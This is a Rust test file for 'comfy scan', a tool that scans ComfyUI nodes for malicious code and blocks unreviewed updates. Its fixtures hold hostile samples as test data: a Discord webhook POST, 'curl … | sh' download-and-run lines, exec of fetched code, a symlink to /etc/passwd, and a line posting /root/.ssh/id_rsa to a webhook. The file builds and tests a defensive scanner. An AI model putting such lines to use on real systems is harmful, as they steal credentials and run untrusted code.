//! `comfy scan` of folders, the scan of pins, and what people accept.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Output;

use crate::support::{CORE, File, Upstream, command, git_or_skip, python, text, without_ids};

/// A page that sends data to a chat service: critical, whatever else is known of it.
const WEBHOOK: &[u8] = b"fetch('https://discord.com/api/webhooks/1/x', {method: 'POST'})\n";

fn scan(root: &Path, args: &[&str]) -> Output {
    command(root)
        .current_dir(root)
        .arg("scan")
        .args(args)
        .output()
        .unwrap()
}

fn write(root: &Path, path: &str, bytes: &[u8]) {
    let path = root.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, bytes).unwrap();
}

/// A folder with one of each kind of carrier, and harmless twins.
fn carriers(root: &Path) {
    write(root, "node/web/a.js", WEBHOOK);
    write(
        root,
        "node/web/b.js",
        b"import { app } from '../../scripts/app.js'\n",
    );
    write(
        root,
        "node/install.sh",
        b"#!/bin/sh\ncurl https://x.test/a | sh\n",
    );
    write(root, "node/lib.so", b"\x7fELF\x02\x01\x01");
    write(
        root,
        "node/requirements.txt",
        b"numpy\ngit+https://x.test/a\n",
    );
    write(root, "node/a.pth", b"import os\n");
    write(root, "node/broken.js", b"function (");
    write(root, "node/mod.pyc", b"\xa7\r\r\n\0\0\0\0");
    write(
        root,
        "node/README.md",
        b"curl https://x.test | sh\neval(1)\n",
    );
    symlink("../../etc/passwd", root.join("node/out")).unwrap();
    symlink("README.md", root.join("node/in")).unwrap();
}

#[test]
fn a_folder_is_scanned_without_manifest_root_or_network() {
    let temp = tempfile::tempdir().unwrap();
    carriers(temp.path());
    let out = scan(temp.path(), &["node"]);
    assert_eq!(out.status.code(), Some(2), "a critical finding");
    insta::assert_snapshot!(text(&out, temp.path()), @"
    node: 1 critical, 4 high, 3 medium, 2 low
      critical web/a.js:1:7: it connects to discord.com (js-webhook, webhook)
               | fetch('https://discord.com/api/webhooks/1/x', {method: 'POST'})
      high     install.sh:2:1: what it downloads is run at once (shell-download-run, download-and-run)
               | curl https://x.test/a | sh
      high     a.pth:1:1: every start of Python runs this line (carrier-start-hook)
               | import os
      high     mod.pyc: no source of its name is beside it (carrier-bytecode)
      high     out: it leads to ../../etc/passwd (carrier-link)
      medium   broken.js: it cannot be parsed as JavaScript: Expected function name (carrier-unparseable)
      medium   lib.so: it is a program or library for Linux (ELF) (carrier-compiled)
      medium   requirements.txt:2:1: pip builds what the repository holds that day (requirement-url)
               | git+https://x.test/a

    Scanned 9 files: 1 critical, 4 high, 3 medium, 2 low. Those of low severity are shown with -v.
    ");

    // One that nobody asked to fail on does not.
    let out = scan(temp.path(), &["node/web/b.js", "--fail-on", "low"]);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(
        scan(temp.path(), &["node", "--fail-on", "never"])
            .status
            .code(),
        Some(0)
    );
    // A folder that is not there is an error, and no finding.
    assert_eq!(scan(temp.path(), &["nowhere"]).status.code(), Some(1));
}

#[test]
fn programs_read_what_a_scan_found() {
    let temp = tempfile::tempdir().unwrap();
    carriers(temp.path());
    let out = scan(temp.path(), &["node", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["format_version"], 1);
    let found = json["findings"].as_array().unwrap();
    let webhook = found.iter().find(|f| f["rule"] == "js-webhook").unwrap();
    insta::assert_snapshot!(serde_json::to_string_pretty(webhook).unwrap(), @r#"
    {
      "category": "ssrf",
      "column": 7,
      "fingerprint": "5c57d910f636c9036a2d1bda87d07e31",
      "intent": "webhook",
      "line": 1,
      "message": "it connects to discord.com",
      "path": "web/a.js",
      "rule": "js-webhook",
      "severity": "critical",
      "snippet": "fetch('https://discord.com/api/webhooks/1/x', {method: 'POST'})",
      "steps": []
    }
    "#);
    let words: std::collections::BTreeSet<&str> = found
        .iter()
        .map(|f| f["category"].as_str().unwrap())
        .collect();
    assert!(
        words.contains("carrier") && words.contains("pkg-install"),
        "{words:?}"
    );
    assert_eq!(json["summary"]["worst"], "critical");

    let out = scan(temp.path(), &["node", "--format", "sarif"]);
    let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    let run = &sarif["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    for result in run["results"].as_array().unwrap() {
        let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
        assert_eq!(rules[index]["id"], result["ruleId"]);
        let place = &result["locations"][0]["physicalLocation"];
        assert!(place["artifactLocation"]["uri"].is_string());
        assert!(place["region"].is_null() || place["region"]["startLine"].as_u64() >= Some(1));
    }

    let page = temp.path().join("scan.html");
    let out = scan(temp.path(), &["node", "--html", page.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let page = fs::read_to_string(page).unwrap();
    assert!(page.contains("js-webhook") && page.contains("default-src 'none'"));
    assert!(
        !page.contains("src=") && !page.contains("@DATA@"),
        "it loads nothing"
    );
    // What is found cannot end the script that holds it.
    assert_eq!(page.matches("</script>").count(), 2);
}

#[test]
fn a_parser_reaches_nothing_and_its_crash_is_a_finding() {
    let temp = tempfile::tempdir().unwrap();
    write(temp.path(), "node/a.js", b"//comfy-fault:probe\n");
    write(temp.path(), "node/b.js", b"//comfy-fault:abort\n");
    write(temp.path(), "node/c.js", WEBHOOK);
    let out = scan(temp.path(), &["node", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let found: Vec<String> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| format!("{} {}: {}", f["path"], f["rule"], f["message"]))
        .collect();
    insta::assert_snapshot!(found.join("\n"), @r#"
    "c.js" "js-webhook": "it connects to discord.com"
    "a.js" "carrier-crash": "it could do: []"
    "b.js" "carrier-crash": "the process that parsed it was ended by signal 6"
    "c.js" "js-remote-request": "it connects to discord.com"
    "#);
}

/// The output of a scan whose parser has so many threads, and what of it speaks of crashes.
fn scan_with(root: &Path, fault: &str) -> (String, Vec<String>) {
    let out = command(root)
        .current_dir(root)
        .args(["scan", "node", "--format", "json"])
        .env("COMFY_FAULT", fault)
        .output()
        .unwrap();
    let shown = String::from_utf8(out.stdout).unwrap();
    let json: serde_json::Value = serde_json::from_str(&shown).unwrap();
    let crashes = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "carrier-crash")
        .map(|f| format!("{}: {}", f["path"].as_str().unwrap(), f["message"]))
        .collect();
    (shown, crashes)
}

#[test]
fn what_is_found_does_not_depend_on_how_many_threads_parse() {
    let temp = tempfile::tempdir().unwrap();
    carriers(temp.path());
    // Data goes from one file to another, whichever of them is parsed first.
    write(
        temp.path(),
        "node/__init__.py",
        b"from .z import fetch\nexec(fetch('http://x.test/a.py'))\n",
    );
    write(
        temp.path(),
        "node/z.py",
        b"import requests\ndef fetch(url):\n    return requests.get(url).text\n",
    );
    for n in 0..40 {
        write(temp.path(), &format!("node/web/{n}.js"), WEBHOOK);
        write(
            temp.path(),
            &format!("node/{n}.py"),
            format!("import os\nfrom . import z\nos.system(z.fetch('{n}'))\n").as_bytes(),
        );
    }
    let (one, _) = scan_with(temp.path(), "threads:1");
    assert!(one.contains("comes back from fetch()"), "{one}");
    for threads in ["threads:2", "threads:4"] {
        assert_eq!(scan_with(temp.path(), threads).0, one, "{threads}");
    }
}

#[test]
fn a_crash_and_a_hang_lose_their_own_file_however_many_threads_parse() {
    let temp = tempfile::tempdir().unwrap();
    let slow = [&b"//comfy-fault:wait\n"[..], WEBHOOK].concat();
    // While one thread crashes or hangs, the other is at a file that is slow and sound.
    for name in ["a.js", "c.js", "e.js"] {
        write(temp.path(), &format!("node/{name}"), &slow);
    }
    write(temp.path(), "node/b.js", b"//comfy-fault:abort\n");
    write(temp.path(), "node/d.js", b"//comfy-fault:abort\n");
    write(temp.path(), "node/f.js", b"//comfy-fault:hang\n");
    write(temp.path(), "node/g.py", b"exec(input())\n");
    let (one, crashes) = scan_with(temp.path(), "threads:1,patience:3000");
    insta::assert_snapshot!(crashes.join("\n"), @r#"
    b.js: "the process that parsed it was ended by signal 6"
    d.js: "the process that parsed it was ended by signal 6"
    f.js: "the process that parsed it was stopped after a minute"
    "#);
    for sound in ["a.js", "c.js", "e.js", "g.py"] {
        assert!(one.contains(&format!("\"path\": \"{sound}\"")), "{one}");
    }
    let (two, _) = scan_with(temp.path(), "threads:2,patience:3000");
    assert_eq!(two, one);
}

/// A project with one node, without accounts.
struct Project {
    root: PathBuf,
    node: Upstream,
    _temp: tempfile::TempDir,
}

impl Project {
    fn new(policy: &str) -> Project {
        let temp = tempfile::tempdir().unwrap();
        let root = temp.path().canonicalize().unwrap();
        let upstream = root.join("upstream");
        Upstream::new(&upstream, "up/ComfyUI").commit(CORE);
        let node = Upstream::new(&upstream, "up/node");
        let project = Project {
            root,
            node,
            _temp: temp,
        };
        project.publish(b"const a = 1\n");
        project.set_policy(policy);
        project
    }

    fn publish(&self, script: &[u8]) {
        let files: Vec<File> = vec![
            ("__init__.py", b"NODE_CLASS_MAPPINGS = {}\n", 0o100_644),
            ("js/a.js", script, 0o100_644),
        ];
        self.node.commit(&files);
    }

    fn set_policy(&self, policy: &str) {
        let text = format!(
            "version = 1\n[host]\nisolation = \"none\"\nprefix = \"{}/prefix\"\n[comfyui]\nrepo = \
             \"https://github.com/up/ComfyUI\"\nref = \"main\"\n[python]\nversion = \"{}\"\n\
             [nodes.node]\nrepo = \"https://github.com/up/node\"\nref = \"main\"\n[policy]\n{policy}\n",
            self.root.display(),
            python()
        );
        fs::create_dir_all(self.root.join("dotfiles")).unwrap();
        fs::write(self.root.join("dotfiles/comfy.toml"), text).unwrap();
    }

    fn run(&self, args: &[&str]) -> (Option<i32>, String) {
        let out = command(&self.root)
            .current_dir(self.root.join("dotfiles"))
            .args(args)
            .output()
            .unwrap();
        let shown = without_ids(&text(&out, &self.root), &[7, 16, 40]);
        (out.status.code(), shown)
    }

    fn ok(&self, args: &[&str]) -> String {
        let (code, shown) = self.run(args);
        assert_eq!(code, Some(0), "{args:?}: {shown}");
        shown
    }

    fn refused(&self, args: &[&str]) -> String {
        let (code, shown) = self.run(args);
        assert_eq!(code, Some(1), "{args:?}: {shown}");
        shown
    }

    fn lock_text(&self) -> String {
        fs::read_to_string(self.root.join("dotfiles/comfy.lock")).unwrap()
    }
}

#[test]
fn an_update_tells_what_it_newly_can_do() {
    if !git_or_skip() {
        return;
    }
    let project = Project::new("");
    project.ok(&["lock"]);
    let empty = project.ok(&["accept", "--all"]);
    project.publish(b"fetch('https://x.test/a')\neval(b)\n");
    insta::assert_snapshot!(
        empty + &project.ok(&["update"]) + &project.ok(&["scan", "--new", "node"]), @r#"
    Accepted comfyui COMMIT: 1 low
    Accepted node COMMIT: nothing found
    Recorded 2 parts in comfy.lock: commit it.
    Updated node COMMIT -> COMMIT (1 commit)
        COMMIT a commit (upstream)
        + opens network connections (1 place)
        + runs code that it makes or is given (1 place)
        new findings: 1 medium, 1 low
    isolation = "none": ComfyUI and its nodes have all your rights; nothing is protected.
    Wrote comfy.lock. Review it with `comfy plan`, then commit it.
    node, since COMMIT:
      + opens network connections (1 place)
      + runs code that it makes or is given (1 place)
    node: 1 medium, 1 low
      medium   js/a.js:2:1: `eval` runs a text (js-eval)
               | eval(b)

    Scanned 2 files: 1 medium, 1 low. Those of low severity are shown with -v.
    "#);
    // A plan tells it of what is live.
    project.ok(&["apply", "--yes", "--no-check"]);
    project.publish(b"navigator.clipboard.readText()\n");
    project.ok(&["update", "node"]);
    let plan = project.ok(&["plan"]);
    let lines: Vec<&str> = plan.lines().filter(|l| l.starts_with("    # ")).collect();
    insta::assert_snapshot!(lines.join("\n"), @"
    # + reads keys or the environment (1 place)
    # - opens network connections
    # - runs code that it makes or is given
    ");
}

#[test]
fn critical_code_that_nobody_accepted_is_neither_locked_nor_installed() {
    let project = Project::new("scan = \"block\"");
    project.ok(&["lock"]);
    project.ok(&["apply", "--yes", "--no-check"]);
    let (before, live) = (project.lock_text(), project.ok(&["verify"]));
    project.publish(WEBHOOK);
    let refused = project.refused(&["update"]);
    assert_eq!(project.lock_text(), before);
    // What was refused can be read all the same, and nothing is recorded.
    let commit = project.node.head();
    let shown = project.ok(&["review", "node", "--commit", &commit]);
    let marked = |l: &&str| l.contains("js/a.js") || l.contains("js-webhook");
    let shown: Vec<&str> = shown.lines().filter(marked).collect();
    insta::assert_snapshot!(shown.join("\n"), @"
    --- a/js/a.js
    +++ b/js/a.js
        ^ critical: it connects to discord.com (js-webhook)
    ");
    assert_eq!(project.lock_text(), before);

    // Somebody locked it elsewhere: the machine looks for itself.
    project.set_policy("scan = \"warn\"");
    project.ok(&["update"]);
    project.set_policy("scan = \"block\"");
    let stopped = project.refused(&["apply", "--yes", "--no-check"]);
    insta::assert_snapshot!(format!("{refused}{stopped}"), @r#"
    isolation = "none": ComfyUI and its nodes have all your rights; nothing is protected.
    error: node.node: js/a.js:1:7: it connects to discord.com (js-webhook, critical), and nobody has accepted it
      hint: read it, then choose another commit, or add to [policy] of comfy.toml `accept = [{ node = "node", rule = "js-webhook", path = "js/a.js", reason = "why it is safe" }]` and run the same command again; `comfy review node` accepts what comfy.lock pins
      hint: `comfy review node --commit COMMIT` shows what it would change
    comfy will perform the following actions:
      ~ update in place

      # comfyui will be updated
        ~ current = "gen/COMMIT" -> "gen/COMMIT"

      # node.node will be updated
        ~ commit = "COMMIT" -> "COMMIT"
        ~ tree   = "COMMIT" -> "COMMIT"
        # + opens network connections (2 places)

    Will download 1 repository unless cached. Free disk space is checked first.

    Note: network.egress = "deny": under isolation "none" it is enforced for TCP and by port alone, if the kernel's Landlock knows ports; a node can still listen on a port that the system chooses
    Note: network.clients: under isolation "none" every user of this machine can reach ComfyUI
    Note: run.memory_reserve: under isolation "none" nothing is kept for the system

    Plan: 0 to add, 2 to change, 0 to destroy.
    isolation = "none": ComfyUI and its nodes have all your rights; nothing is protected.
    error: node.node: js/a.js:1:7: it connects to discord.com (js-webhook, critical), and nobody has accepted it
      hint: read it, then choose another commit, or add to [policy] of comfy.toml `accept = [{ node = "node", rule = "js-webhook", path = "js/a.js", reason = "why it is safe" }]` and run the same command again; `comfy review node` accepts what comfy.lock pins
    "#);
    let plan = project.ok(&["plan"]);
    assert!(
        plan.contains("node.node will be updated"),
        "nothing was installed: {plan}"
    );
    drop(live);

    // The entry that the hint names lets it through, and dies with the code.
    let accepted = "scan = \"block\"\naccept = [{ node = \"node\", rule = \"js-webhook\", path = \
                    \"js/a.js\", reason = \"a test\" }]";
    project.set_policy(accepted);
    project.ok(&["lock"]);
    project.ok(&["apply", "--yes", "--no-check"]);
    project.publish(b"fetch('https://discord.com/api/webhooks/2/other')\n");
    project.refused(&["update"]);
    // A review accepts what is pinned; here, what was locked without the policy.
    project.set_policy("scan = \"warn\"");
    project.ok(&["update"]);
    project.set_policy("scan = \"block\"");
    project.refused(&["apply", "--yes", "--no-check"]);
    project.ok(&["review", "node", "--yes"]);
    project.ok(&["lock"]);
    project.ok(&["apply", "--yes", "--no-check"]);
    project.ok(&["lock", "--check"]);
}

/// What is installed is scanned, wherever in the tree it is: a fork of ComfyUI with a node of its
/// own, a folder that tools pass over.
#[test]
fn nothing_that_is_installed_is_passed_over() {
    let project = Project::new("scan = \"warn\"");
    let steals: &[u8] = b"import requests\nrequests.post('https://discord.com/api/webhooks/1/x', \
        data=open('/root/.ssh/id_rsa').read())\n";
    let files: Vec<File> = vec![
        ("__init__.py", b"NODE_CLASS_MAPPINGS = {}\n", 0o100_644),
        (".svn/x.py", steals, 0o100_644),
    ];
    project.node.commit(&files);
    let fork = Upstream::new(&project.root.join("upstream"), "up/fork");
    let mut core: Vec<File> = CORE.to_vec();
    core.push(("custom_nodes/evil/__init__.py", steals, 0o100_644));
    fork.commit(&core);
    let path = project.root.join("dotfiles/comfy.toml");
    let forked = |scan: &str| {
        project.set_policy(&format!("scan = \"{scan}\""));
        let text = fs::read_to_string(&path)
            .unwrap()
            .replace("up/ComfyUI", "up/fork");
        fs::write(&path, text).unwrap();
    };
    forked("warn");
    project.ok(&["lock"]);
    forked("block");
    let refused = project.refused(&["apply", "--yes", "--no-check"]);
    assert!(
        refused.contains("comfyui: custom_nodes/evil/__init__.py:2")
            && refused.contains("node.node: .svn/x.py:2"),
        "{refused}"
    );
    // An entry that names nothing is not bound to anything, so that it can name something later.
    project.set_policy(
        "scan = \"warn\"\naccept = [{ node = \"node\", rule = \"js-webhook\", path = \"js/a.js\", \
         reason = \"later\" }]",
    );
    let warned = project.ok(&["lock"]);
    assert!(
        warned.contains("has no finding js-webhook in js/a.js here"),
        "{warned}"
    );
    assert!(!project.lock_text().contains("[[accepted]]"));
}

/// What is left out or lies in a submodule belongs to what was reviewed.
#[test]
fn a_review_ends_where_something_else_would_be_installed() {
    let project = Project::new("review = \"required\"");
    let files: Vec<File> = vec![
        ("__init__.py", b"NODE_CLASS_MAPPINGS = {}\n", 0o100_644),
        ("extra/e.py", b"x = 1\n", 0o100_644),
    ];
    project.node.commit(&files);
    let path = project.root.join("dotfiles/comfy.toml");
    let text = fs::read_to_string(&path).unwrap();
    let without = text.replace("[policy]", "exclude = [\"extra\"]\n[policy]");
    fs::write(&path, &without).unwrap();
    project.ok(&["lock"]);
    project.ok(&["review", "node", "--yes"]);
    project.ok(&["review", "comfyui", "--yes"]);
    project.ok(&["apply", "--yes", "--no-check"]);
    fs::write(&path, &text).unwrap();
    project.ok(&["lock"]);
    let (code, refused) = project.run(&["apply", "--yes", "--no-check"]);
    assert_eq!(code, Some(1), "{refused}");
    assert!(
        refused.contains("its code has changed since it was reviewed"),
        "{refused}"
    );
}

#[test]
fn only_reviewed_code_is_installed_where_the_policy_says_so() {
    let project = Project::new("review = \"required\"");
    project.ok(&["lock"]);
    let (_, refused) = project.run(&["apply", "--yes", "--no-check"]);
    let shown = project.ok(&["review", "node", "--show"]);
    // It asks, and there is nobody to answer.
    let unasked = project.refused(&["review", "node"]);
    project.ok(&["review", "node", "--yes"]);
    project.ok(&["review", "comfyui", "--yes"]);
    project.ok(&["apply", "--yes", "--no-check"]);
    project.publish(b"const a = 1\neval(x)\n");
    project.ok(&["update", "node"]);
    let (_, again) = project.run(&["apply", "--yes", "--no-check"]);
    let diff = project.ok(&["review", "node", "--show"]);
    let errors = |text: &str| {
        let lines = text
            .lines()
            .filter(|l| l.starts_with("error:") || l.starts_with("  hint:"));
        lines.map(|l| format!("{l}\n")).collect::<String>()
    };
    let diff: Vec<&str> = diff.lines().filter(|l| !l.starts_with("Since ")).collect();
    insta::assert_snapshot!(
        format!("{}\n{shown}\n{unasked}\n{}\n{}", errors(&refused), errors(&again), diff.join("\n")),
        @"
    error: comfyui: nobody has reviewed it: run `comfy review comfyui`
      hint: nothing was changed; resolve this, then run `comfy apply` again
    error: node.node: nobody has reviewed it: run `comfy review node`

    node COMMIT
    Nobody has accepted it before: all of it is new.
    Findings: nothing found in 2 files.

    --- /dev/null
    +++ b/__init__.py
    @@ -0,0 +1 @@
    +NODE_CLASS_MAPPINGS = {}
    --- /dev/null
    +++ b/js/a.js
    @@ -0,0 +1 @@
    +const a = 1

    error: cannot ask whether you reviewed it: stdin is not a terminal
      hint: `--show` only shows it; `--yes` records it without asking

    error: node.node: its code has changed since it was reviewed: run `comfy review node`
      hint: nothing was changed; resolve this, then run `comfy apply` again

    node COMMIT
      + runs code that it makes or is given (1 place)
    Findings: 1 medium in 2 files.

    --- a/js/a.js
    +++ b/js/a.js
    @@ -1 +1,2 @@
     const a = 1
    +eval(x)
        ^ medium: `eval` runs a text (js-eval)
    "
    );
}

#[test]
fn another_reviewer_reads_the_diff_confined() {
    let project = Project::new("");
    let reviewer = "import json, os, sys\n\
                    diff = sys.stdin.read()\n\
                    try:\n    seen = os.listdir(os.path.dirname(sys.argv[1]))\n\
                    except OSError as e:\n    seen = type(e).__name__\n\
                    print(json.dumps({'findings': [{'path': 'js/a.js', 'line': 1, 'severity': 'high',\n\
                    'message': f'{len(diff) > 0} {seen} {sorted(os.environ)}'}]}))\n";
    let policy = format!(
        "reviewer = [\"/usr/bin/python3\", \"-I\", \"-c\", '''{reviewer}''', \"{}\"]",
        project.root.join("dotfiles/comfy.toml").display()
    );
    project.set_policy(&policy);
    project.ok(&["lock"]);
    let shown = project.ok(&["review", "node", "--show"]);
    let said: Vec<&str> = shown.lines().filter(|l| l.contains("(reviewer)")).collect();
    insta::assert_snapshot!(said.join("\n"), @"    ^ high: True PermissionError ['HOME', 'LANG', 'PATH'] (reviewer)");
    project.set_policy("reviewer = [\"/nonexistent/reviewer\"]");
    insta::assert_snapshot!(project.refused(&["review", "node", "--show"]), @"
    error: policy.reviewer: there is no program /nonexistent/reviewer
      hint: give its absolute path
    ");
}
